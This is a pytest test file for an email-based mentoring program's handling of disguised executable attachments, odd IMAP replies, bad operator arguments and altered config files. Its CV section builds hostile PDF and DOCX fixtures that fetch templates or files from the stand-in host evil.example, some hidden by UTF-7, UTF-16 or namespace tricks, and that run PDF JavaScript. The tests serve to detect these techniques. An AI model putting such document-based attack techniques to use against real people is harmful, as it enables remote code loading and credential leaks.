    "in capitals": 'filename="SETUP.EXE"',
    "a blank behind it": 'filename="setup.exe "',
    "a dot behind it": 'filename="setup.exe."',
    "in pieces": "filename*0=setup.e; filename*1=xe",
    "encoded": 'filename="=?utf-8?q?setup=2Eexe?="',
}


@pytest.mark.parametrize("which", ENDINGS)
def test_a_program_that_is_attached_waits_whatever_way_its_name_is_written(which: str) -> None:
    """As the shipped rule "Programs and scripts" says."""
    world = Attacked()
    head = f"From: Mia <{MIA}>\nTo: {ADDRESS}\nSubject: STATUS\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=c"
    body = f"--c\nContent-Type: text/plain\n\nSTATUS\n--c\nContent-Type: application/octet-stream\nContent-Disposition: attachment; {ENDINGS[which]}\n\nMZ\n--c--"
    raw(world, head, body, proof="college.example")
    assert any("a program is attached" in because for because in world.held())


# --- CVs ---------------------------------------------------------------------------------------------------------------------

PAGES = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R OPEN>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R PAGE>>endobj\nMORE\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def paper(opens: bytes = b"", page: bytes = b"", more: bytes = b"") -> bytes:
    return PAGES.replace(b"OPEN", opens).replace(b"PAGE", page).replace(b"MORE", more)


def packed(**files: bytes) -> bytes:
    """A plain DOCX, with other parts; `__` in a name is a slash."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'.encode(),
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>CV</w:t></w:r></w:p></w:body></w:document>',
    }
    parts |= {name.replace("__", "/"): content for name, content in files.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


RELATED = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
OTHER_HAZARDS: Mapping[str, tuple[str, bytes]] = {
    "a thread of another file": ("cv.pdf", paper(b"/OpenAction<</S/Thread/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D 0>>")),
    "a stream that lies elsewhere": ("cv.pdf", paper(page=b"/Contents 9 0 R", more=b"9 0 obj<</Length 0/F<</FS/URL/F(https://evil.example/x)>>>>stream\n\nendstream endobj")),
    "a page of another file": ("cv.pdf", paper(more=b"9 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/Page 0>>/Length 0>>stream\n\nendstream endobj")),
    "a film that lies elsewhere": ("cv.pdf", paper(page=b"/Annots[<</Type/Annot/Subtype/Movie/Movie<</F(\\\\\\\\evil.example\\\\share\\\\x.avi)>>/A true>>]")),
    "a script of a page that is left": ("cv.pdf", paper(page=b"/AA<</C<</S/JavaScript/JS(app.alert\\(1\\))>>>>")),
    "a template named in wide letters of the file": ("cv.docx", packed(**{"word___rels__document.xml.rels": RELATED.encode("utf-16")})),
    "a template named in seven bits": ("cv.docx", packed(**{"word___rels__document.xml.rels": RELATED.replace('?>', ' encoding="UTF-7"?>', 1).replace("<Rel", "+ADw-Rel").encode()})),
    "a template by a namespace of its own": ("cv.docx", packed(**{"word___rels__document.xml.rels": RELATED.replace("<Relationship", "<p:Relationship").replace("</Relationship", "</p:Relationship").replace("xmlns=", "xmlns:p=").encode()})),
    "a template by a path of a network": ("cv.docx", packed(**{"word___rels__settings.xml.rels": RELATED.replace("https://evil.example/x.dotm", "file://evil.example/share/x.dotm").encode()})),
    "a picture that lies elsewhere": ("cv.docx", packed(**{"word___rels__document.xml.rels": RELATED.replace("attachedTemplate", "image").replace("x.dotm", "x.png").encode()})),
    "another document within": ("cv.docx", packed(**{"word__afchunk.mht": b"MIME-Version: 1.0\n\n<script>", "word___rels__document.xml.rels": RELATED.replace("attachedTemplate", "aFChunk").replace("https://evil.example/x.dotm", "/word/afchunk.mht").replace(' TargetMode="External"', "").encode()})),
}  # fmt: skip


@pytest.mark.parametrize("which", OTHER_HAZARDS)
def test_a_cv_that_reaches_beyond_itself_is_not_passed_on(which: str) -> None:
    name, content = OTHER_HAZARDS[which]
    assert hazard_of(name, "application/octet-stream", content) is not None


@pytest.mark.parametrize("content", [paper(), packed()], ids=["a plain PDF", "a plain DOCX"])
def test_a_cv_of_words_is_passed_on(content: bytes) -> None:
    name = "cv.pdf" if content.startswith(b"%PDF") else "cv.docx"
    assert hazard_of(name, "application/octet-stream", content) is None


# --- an IMAP server that says odd things -----------------------------------------------------------------------------------


def gone(response: bytes, latest: bytes) -> bytes:
    """Each mail was taken out by somebody between the list and the fetch (RFC 2180, 4.1.2)."""
    return re.sub(rb"BODY\[\] \{\d+\}\r\n.*\)\r\n", b"BODY[] NIL)\r\n", response, flags=re.DOTALL)


IMAP_SAYS: Mapping[str, Said] = {
    "no mail where there is one": gone,
    "months in small letters": changed(
        rb'INTERNALDATE "([^"]*)"', lambda m: b'INTERNALDATE "' + m[1].lower() + b'"'
    ),
    "a day of one digit": changed(rb'INTERNALDATE "\d', b'INTERNALDATE "'),
    "a taking away that it could not tell": changed(
        rb"(A?\w+ OK) (Fetch|FETCH)", rb"\1 [EXPUNGEISSUED] \2", b"FETCH"
    ),
    "numbers of a move that are wrong": changed(
        rb"COPYUID (\d+) \S+ \S+\]", rb"COPYUID \1 4294967295 1]", b"MOVE"
    ),
    "another answer to a search": changed(
        rb"\* SEARCH ([\d ]+)\r\n", b"* SEARCH \r\n* SEARCH \\1\r\n", b"SEARCH"
    ),
    "more mails than any folder has": changed(rb"\* \d+ EXISTS", b"* 4294967295 EXISTS"),
}


@pytest.mark.parametrize("name", IMAP_SAYS)
def test_what_a_server_says_oddly_for_a_while_loses_no_mail(
    name: str, imap: Dovecot, proxy: Proxy, tmp_path: Path
) -> None:
    world = BoxProgram(tmp_path, imap=imap, proxy=proxy)
    world.sign_up()
    with world.parts(patience=1.0) as parts:
        proxy.said = IMAP_SAYS[name]
        a_pass(parts)
        proxy.plain()
        for later in (timedelta(minutes=20), timedelta(hours=1), timedelta(hours=3)):
            assert a_pass(parts, later) == ""
    acted_once(world)
    assert world.left() == 0


# --- an operator's hands --------------------------------------------------------------------------------------------------------

WORDS = [
    ("held", "show", "HELD-" + "9" * 40),
    ("held", "show", "HELD-0"),
    ("held", "requeue", "9" * 40),
    ("held", "requeue", "0"),
    ("outbox", "drop", "unwritten-" + "9" * 40),
    ("outbox", "drop", "unwritten-\u0663"),
    ("outbox", "release", ""),
    ("preview", "../en/request"),
    ("preview", "request", "--language", "../en"),
    ("preview", "_signature"),
    ("roster", "import", "/dev/zero"),
    ("restore", "/dev/zero"),
]


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
def test_what_nobody_can_mean_ends_with_a_sentence_and_changes_nothing(
    words: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    program = SmallProgram(tmp_path)
    program.sign_up("jon@north.example")
    program.done("once")
    before = program.done("export")
    capsys.readouterr()
    code = program.here(*words)
    said = capsys.readouterr()
    assert code in (1, 2), said
    assert (said.out + said.err).strip()
    assert "Traceback" not in said.out + said.err
    assert program.done("export") == before


# --- what else a hand may change badly ------------------------------------------------------------------------------------------


def test_a_letter_that_was_mended_after_the_backup_does_not_go_out_again_by_itself(kept: Copied) -> None:
    """It waits in the backup as one that cannot be written; it went out before the loss."""
    world = kept.world
    world.player.writer.broken["request"] = "a slip"
    world.write(MIA, "REQUEST M-1001", "Would you?")
    kept.save()
    del world.player.writer.broken["request"]
    world.player.second_try.all_again(world.player.now)
    assert len(to(world.work(), JON)) == 1
    kept.lose(release=False)
    before = len(world.player.post.sent)
    world.player.second_try.all_again(world.player.now)
    world.later(days=1)
    assert not world.player.post.sent[before:]


def test_a_deadline_that_stumbles_over_a_fault_of_the_program_is_not_lost_in_silence(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """As a mail is that stumbles: it is tried again, or somebody other than the log hears of it."""
    world = Attacked()
    world.asked()
    world.later(days=11)
    calls: list[str] = []

    def stumbles(kind: DueKind, nth: int, facts: Facts, rules: RuleBook) -> Decision:
        calls.append(kind.value)
        if len(calls) == 1:
            raise KeyError("a fault of ours")
        return real(kind, nth, facts, rules)

    real = due.decide_due
    monkeypatch.setattr(due, "decide_due", stumbles)
    sent = world.later(days=8)
    assert calls
    assert to(sent, MIA) or to(sent, COORDINATOR)
    assert world.state() != "pending"


def test_a_deadline_that_stumbles_each_time_is_told_and_keeps_no_other_waiting(
    kept: Copied, monkeypatch: pytest.MonkeyPatch
) -> None:
    world = kept.world
    kept.asks(MIA)
    world.write(ADA, "SIGN UP MENTOR", FORM.format(name="Ada Stone"))
    ada = next(m["code"] for m in world.player.records()["members"] if m["email"] == ADA)
    world.write(LEA, f"REQUEST {ada}", "Would you?")
    world.later(days=11)
    real = due.decide_due
    calls: list[int] = []

    def stumbles(kind: DueKind, nth: int, facts: Facts, rules: RuleBook) -> Decision:
        if facts.request is not None and facts.request.ref == "REQ-1":
            calls.append(nth)
            raise KeyError("a fault of ours")
        return real(kind, nth, facts, rules)

    monkeypatch.setattr(due, "decide_due", stumbles)
    sent = world.later(days=5)
    assert to(sent, LEA)
    told = [mail for mail in to(sent, COORDINATOR) if "REQ-1" in see(mail).text]
    assert len(told) == 1
    assert len(calls) == 6
    with closing(Maintenance(kept.url)) as maintenance:
        assert maintenance.figures(world.player.now).given_up_lately == 1


def test_a_beginning_in_the_next_century_is_not_taken_without_a_word(tmp_path: Path) -> None:
    """since = 2126 for 2026: every mail would be passed over, and nobody would get an answer."""
    program = SmallProgram(tmp_path)
    config = tmp_path / "config.toml"
    config.write_text(config.read_text().replace("poll_seconds = 1", "poll_seconds = 1\nsince = 2126-03-01"))
    program.sign_up("jon@north.example")
    once = program.here("once")
    if once != 2 and not program.sent():
        said = io.StringIO()
        with redirect_stdout(said):
            program.here("doctor")
        assert "2126" in said.getvalue()


NO_LIST = {
    "negation": ["I do not accept.", "I can not accept her.", "Not accepted, sorry."],
    "doubt": ["Accept, maybe later.", "I would perhaps accept."],
    "undecided": ["I accept if she is in Boston.", "Accept, unless I move."],
    "unable": ["I am unable to accept.", "I cannot mentor her."],
    "breaks": ["Yes and then no.", "I accept her kindness and decline."],
    "reject_phrases": ["I have to pass, though I would love to accept."],
}


@pytest.mark.parametrize("name", NO_LIST)
def test_without_a_list_of_the_vocabulary_a_no_is_still_no_yes(name: str, tmp_path: Path) -> None:
    """rules.md: a yes that was none is the worst mistake. A copy of the file in which one list is missing."""
    text = (ROOT / "rules" / "vocabulary.en.toml").read_text()
    left = re.sub(rf"(?ms)^{name} = \[.*?\]\n", "", text, count=1)
    assert left != text
    (tmp_path / "vocabulary.en.toml").write_text(left)
    try:
        loaded = load_rules(tmp_path, "en")
    except ConfigError:
        return  # refused, and named
    taken = []
    for words in NO_LIST[name]:
        world = Attacked()
        world.player.rules = replace(world.player.rules, vocabularies=loaded.vocabularies)
        world.player.set_up()
        world.reply(JON, world.asked(), words)
        taken += [words] if world.state() == "accepted" else []
    assert not taken


QUOTINGS = {
    "no language": "",
    "one that nobody speaks": '[[language]]\nname = "xx"\nwrote = ["zog"]\non = ["zig"]\nfrom = ["zag"]\nto = ["zug"]\nsent = ["zeg"]\nsubject = ["zyg"]\n',
}
BELOW = {
    "a German line and marks": "Am Mo., 2. März 2026 um 16:10 Uhr schrieb Mentor Exchange <mentors@pharmacists.example>:\n{marked}",
    "a head of Outlook and no marks": "Von: Mentor Exchange\nGesendet: Montag, 2. März 2026 16:10\nAn: Jon Berg\nBetreff: Would you mentor Mia Okafor?\n\n{plain}",
    "nothing and no marks": "\n{plain}",
}


@pytest.mark.parametrize("below", BELOW)
@pytest.mark.parametrize("quoting", QUOTINGS)
def test_with_hardly_any_quoting_our_own_letter_below_a_question_is_no_yes(
    quoting: str, below: str, tmp_path: Path
) -> None:
    (tmp_path / "quoting.toml").write_text(QUOTINGS[quoting])
    try:
        loaded = load_rules(tmp_path, "en")
    except ConfigError:
        return
    world = Attacked()
    loaded = knowing_our_letters(loaded, ROOT / "templates")
    world.player.rules = replace(world.player.rules, quoting=loaded.quoting)
    world.player.set_up()
    asked = world.asked()
    text = see(asked).text
    marked = "\n".join(f"> {line}" for line in text.splitlines())
    sent = world.reply(
        JON, asked, "What does she study?\n\n" + BELOW[below].format(marked=marked, plain=text)
    )
    assert world.state() != "accepted"
    assert jon_or_a_coordinator_hears(world, sent) or to(sent, MIA)


def shipped_fields() -> str:
    return (ROOT / "rules" / "fields.toml").read_text()


FORMS: Mapping[str, Callable[[str], str]] = {
    "a line that is required of whoever has none": lambda t: t.replace('roles = ["mentor"]\nrequired = ["mentor"]', 'roles = ["mentor"]\nrequired = ["mentor", "mentee"]'),
    "a line called like a command": lambda t: t.replace('label = "Title"', 'label = "ACCEPT"'),
    "a line called like a field of a mail": lambda t: t.replace('label = "Title"', 'label = "From"'),
    "a line called like another in another language": lambda t: t.replace('es = "Cargo"', 'es = "Nombre"'),
    "a line without roles": lambda t: t.replace('key = "title"', 'key = "title"\nroles = []').replace('roles = []\nlabel = "Title"\nlabels = { es = "Cargo" }', 'label = "Title"\nlabels = { es = "Cargo" }\nroles = []', 1),
    "a name of two lines": lambda t: t.replace('label = "Title"', 'label = "Ti\\ntle"'),
    "a name with a colon": lambda t: t.replace('label = "Title"', 'label = "Title: and more"'),
}  # fmt: skip


@pytest.mark.parametrize("which", FORMS)
def test_a_form_that_was_changed_oddly_is_refused_or_still_signs_people_up(
    which: str, tmp_path: Path
) -> None:
    text = FORMS[which](shipped_fields())
    assert text != shipped_fields()
    (tmp_path / "fields.toml").write_text(text)
    try:
        loaded = load_rules(tmp_path, "en")
    except ConfigError:
        return
    world = Attacked()
    world.player.rules = replace(world.player.rules, fields=loaded.fields)
    world.player.set_up()
    world.write(LEA, "SIGN UP MENTEE", FORM.format(name="Lea Stone"))
    world.write(ADA, "SIGN UP MENTOR", FORM.format(name="Ada Stone"))
    assert world.standing(LEA) == world.standing(ADA) == "active"
    asked = world.asked()
    world.reply(JON, asked, "ACCEPT")
    assert world.state() == "accepted"


@pytest.mark.parametrize("language", ["xx", "EN", "es-MX"])
def test_a_program_of_any_language_answers_a_sign_up_or_says_why_it_does_not_start(
    language: str, tmp_path: Path
) -> None:
    program = SmallProgram(tmp_path)
    config = tmp_path / "config.toml"
    named = f'name = "Mentor Exchange"\nlanguage = "{language}"'
    config.write_text(config.read_text().replace('name = "Mentor Exchange"', named))
    program.sign_up("jon@north.example")
    assert program.here("once") == 2 or "jon@north.example" in " ".join(program.sent())


def test_a_longer_term_begins_with_the_next_and_lasts_as_long_as_its_letter_says() -> None:
    """From 6 to 12 months: "Would you like to go on for 12 more months?" Both would, for twelve."""
    world, _ = matched()
    policy(world, term_months=12)
    world.later(days=165)
    for who in (JON, MIA):
        offer = [m for m in to(world.player.post.sent, who) if m.letter == "renewal-offer"][-1]
        sent = world.reply(who, offer, "RENEW")
    told = " ".join(see(to(sent, MIA)[-1]).text.split())
    assert "2 September 2027" in told, told


def test_a_shorter_term_that_both_wanted_does_not_end_on_the_day_on_which_it_begins() -> None:
    """From 6 to 3 months: "Would you like to go on for 3 more months?" Both would."""
    world, _ = matched()
    policy(world, term_months=3)
    world.later(days=165)
    for who in (JON, MIA):
        offer = [m for m in to(world.player.post.sent, who) if m.letter == "renewal-offer"][-1]
        world.reply(who, offer, "RENEW")
    sent = world.later(days=25)
    assert "completed" not in [m.letter for m in sent]
    assert things(world)[2] == [("REL-1", "active", 2)]


SHORT = ["Call me, please", "Jon hurt me", "Mia is ill", "I need help urgently", "Jon never wrote"]


@pytest.mark.parametrize("words", SHORT, ids=range(len(SHORT)))
def test_a_few_words_after_the_days_helps_are_not_met_with_silence(words: str) -> None:
    """Decision 14: each limit that keeps a letter back has to leave one that says so."""
    world = Attacked()
    for _ in range(RULES.policy.help_per_day):
        world.write(MIA, "HELP")
    sent = world.write(MIA, "a word", words)
    assert to(sent, MIA) or a_coordinator_knows(world, sent)


MORE_SHORT = ["Is anybody there?", "BRWOSE oncology", "REQEUST M-1001", "WITHDARW"]


@pytest.mark.parametrize("words", MORE_SHORT)
def test_a_short_plea_or_a_mistyped_command_after_three_helps_is_not_met_with_silence(words: str) -> None:
    world = Attacked()
    for number in range(RULES.policy.help_per_day):
        world.write(MIA, "HELP", f"I do not find it {number}")
    sent = world.write(MIA, words)
    assert to(sent, MIA) or a_coordinator_knows(world, sent)


@pytest.mark.parametrize("how", ["expired", "withdrawn", "rejected"])
def test_a_wait_for_a_request_that_is_over_is_answered_on_a_day_of_three_helps(how: str) -> None:
    world = Attacked()
    asked = world.asked()
    received = next(m for m in world.player.post.sent if m.letter == "request-received")
    if how == "rejected":
        world.reply(JON, asked, "Reject")
    elif how == "expired":
        world.later(days=16)
    else:
        world.write(MIA, "WITHDRAW")
    world.later(days=1)
    for number in range(RULES.policy.help_per_day):
        world.write(MIA, "HELP", f"I do not find it {number}")
    sent = world.reply(MIA, received, "WAIT UNTIL 1 May")
    assert to(sent, MIA) or a_coordinator_knows(world, sent)


@pytest.mark.parametrize("most", [0, 3])
def test_what_comes_after_the_days_helps_reaches_a_person_once_a_day_and_no_more(most: int) -> None:
    world = Attacked()
    policy(world, help_per_day=most, held_reminder_days=0)
    for _ in range(most):
        world.write(MIA, "HELP")
    light = ("Call me, please", "Please ring", "Three words more", "A word")
    held = [bool(to(world.write(MIA, "a word", words), COORDINATOR)) for words in light]
    assert held[0]
    assert not held[-1]


def test_whoever_is_on_the_roster_in_capitals_may_sign_up_or_the_import_says_so(tmp_path: Path) -> None:
    """A spreadsheet capitalizes: Zoe@Example.org is whom everybody takes zoe@example.org for."""
    roster = read_roster(b"email,name\nZoe@Example.org,Zoe Lind\n")
    world = Attacked()
    with world.player.store.unit() as unit:
        unit.put_on_roster(roster.rows)
    world.player.program = replace(world.player.program, eligibility="roster")
    world.player.set_up()
    sent = world.write("zoe@example.org", "SIGN UP MENTEE", FORM.format(name="Zoe Lind"))
    assert "zoe@example.org" in [m["email"] for m in world.player.records()["members"]] or to(
        sent, COORDINATOR
    )


def test_requests_and_answers_that_were_moved_back_in_another_order_pair_those_who_were_paired(
    kept: Copied,
) -> None:
    """operating.md: they are acted on again. Jon said yes to Mia and no to Lea; a client moves by sender's name
    or by size, and the answers lie behind the requests as before."""
    kept.save()
    world = kept.world
    asked: dict[str, OutboundMail] = {}
    moved: list[bytes] = []
    for who in (MIA, LEA):
        moved.append(world.drop(who, "REQUEST M-1001", f"I am {who} and would like to learn."))
        asked[who] = to(world.work(), JON)[-1]
        world.later(minutes=3)
    for who, word in ((MIA, "Accept"), (LEA, "Reject")):
        world.reply(JON, asked[who], word)
        moved.append(world.player.last_raw)
    assert kept.pairs() == {(JON, MIA, "active")}
    kept.lose(release=False)
    for n in (1, 0, 2, 3):
        world.player.take_in(moved[n])
        world.work()
        world.later(minutes=1)
    kept.release()
    world.work()
    assert LEA not in {mentee for _, mentee, _ in kept.pairs()}


def let_go(program: Copied) -> None:
    with closing(Maintenance(program.url)) as maintenance:
        maintenance.forget_raw(program.world.player.now - timedelta(days=1))


def test_a_yes_to_was_it_you_whose_mail_was_let_go_is_answered(kept: Copied) -> None:
    world = kept.world
    question = to(world.write(JON, "PAUSE", proof=""), JON)[-1]
    world.later(days=20)
    let_go(kept)
    sent = world.reply(JON, question, "YES")
    assert to(sent, JON) or a_coordinator_knows(world, sent)
    assert world.player.records()["inbox"]["quarantined"] == 0


def test_a_no_to_what_was_passed_on_is_told_although_the_mail_was_let_go(kept: Copied) -> None:
    world = kept.world
    world.asked()
    passes_on(world, f"Jon Berg <{JON}>", "ACCEPT REQ-1", "ACCEPT REQ-1")
    told = to(world.player.post.sent, JON)[-1]
    world.later(days=20)
    let_go(kept)
    sent = world.reply(JON, told, "NO, I did not write that")
    assert to(sent, COORDINATOR)
    assert world.player.records()["inbox"]["quarantined"] == 0


def test_a_yes_to_was_it_you_acts_although_its_mail_is_older_than_what_is_kept(kept: Copied) -> None:
    world = kept.world
    policy(world, confirm_days=30)
    question = to(world.write(JON, "PAUSE", proof=""), JON)[-1]
    world.later(days=20)
    let_go(kept)
    world.reply(JON, question, "YES")
    assert world.standing(JON) == "paused"


@pytest.mark.parametrize(
    "code", ["M-0000001001", "M-1001.", "m 1001", "M-\u0661\u0660\u0660\u0661", "M-1001/M-1001"]
)
def test_a_pair_is_kept_apart_however_the_mentors_code_is_written(code: str) -> None:
    world = Attacked()
    keep_apart(world)
    sent = world.write(MIA, f"REQUEST {code}", "Would you?")
    assert not to(sent, JON)
    assert to(sent, MIA) or a_coordinator_knows(world, sent)


def by_hand(world: Attacked, folder: Path, written: str) -> None:
    (folder / "blocked.toml").write_text(
        f'[[blocked]]\nbetween = ["{written}", "{MIA}"]\nbecause = "they are married"\n'
    )
    world.player.rules = replace(world.player.rules, blocked=load_rules(folder, "en").blocked)
    world.player.set_up()


WRITTEN = ["Jon@hospital.example", "jon@HOSPITAL.example", "JON@HOSPITAL.EXAMPLE"]


@pytest.mark.parametrize("written", WRITTEN)
def test_the_directory_shows_nobody_who_is_kept_apart_however_a_hand_wrote_the_address(
    written: str, tmp_path: Path
) -> None:
    """A request between the two is answered as if he took none; so he may not stand in her list, either."""
    world = Attacked()
    by_hand(world, tmp_path, written)
    shown = everything(to(world.write(MIA, "BROWSE"), MIA))
    assert shown
    assert "M-1001" not in shown


@pytest.mark.parametrize("written", WRITTEN)
def test_nobody_is_suggested_who_is_kept_apart_however_a_hand_wrote_the_address(
    written: str, tmp_path: Path
) -> None:
    world = Attacked()
    world.write(ADA, "SIGN UP MENTOR", FORM.format(name="Ada Stone"))
    by_hand(world, tmp_path, written)
    asked = to(world.write(MIA, "REQUEST M-1003", "Would you?"), ADA)[-1]
    shown = everything(to(world.reply(ADA, asked, "Reject"), MIA))
    assert shown
    assert "M-1001" not in shown


@pytest.mark.parametrize("written", WRITTEN)
def test_a_mentor_who_joins_is_not_told_of_to_whom_he_is_kept_apart_from(
    written: str, tmp_path: Path
) -> None:
    """Mia looked for what nobody offered; then a mentor signs up who does, and the two are a pair."""
    world = Attacked()
    by_hand(world, tmp_path, written.replace("on@", "an@").replace("ON@", "AN@"))
    world.write(MIA, "BROWSE oncology")
    form = FORM.format(name="Jan Berg").replace("Critical care", "Oncology")
    sent = world.write("jan@hospital.example", "SIGN UP MENTOR", form)
    assert not to(sent, MIA)


def test_two_programs_that_name_one_database_are_refused_or_stay_apart(tmp_path: Path) -> None:
    """A configuration that was copied, and of which all but one line was changed. README: strictly apart."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first, second = SmallProgram(tmp_path / "a"), SmallProgram(tmp_path / "b")
    config = second.folder / "config.toml"
    text = config.read_text().replace("mentors@program.example", "tutors@other.example")
    text = text.replace("sqlite:///program.db", f"sqlite:///{tmp_path}/a/program.db")
    config.write_text(text.replace("coordinator@program.example", "boss@other.example"))
    first.sign_up("jon@north.example")
    second.sign_up("ada@south.example", name="Ada Stone")
    code = command_here(["--config", str(first.folder / "config.toml"), "--config", str(config), "once"])
    members = [m["email"] for m in first.told("export")["members"]]
    assert code != 0 or members == ["jon@north.example"]
